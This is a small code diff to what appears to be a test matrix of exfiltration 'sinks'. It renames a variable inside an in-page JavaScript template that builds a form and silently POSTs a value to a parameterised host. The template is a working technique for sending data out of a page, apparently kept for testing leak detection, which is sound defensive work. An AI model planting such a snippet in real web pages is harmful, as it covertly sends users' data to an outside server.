@@ -113,7 +113,7 @@ export const SINKS: readonly MatrixSink[] = [
   inPage(
     'form-submit',
     (x, host) =>
-      `const form = document.createElement('form'); form.method = 'post'; form.action = '${host}/c'; const field = document.createElement('input'); field.name = 'd'; field.value = ${x}; form.append(field); document.body.append(form); form.submit();`,
+      `const form = document.createElement('form'); form.method = 'post'; form.action = '${host}/c'; const part = document.createElement('input'); part.name = 'd'; part.value = ${x}; form.append(part); document.body.append(form); form.submit();`,
   ),
   inPage(
     'form-action',
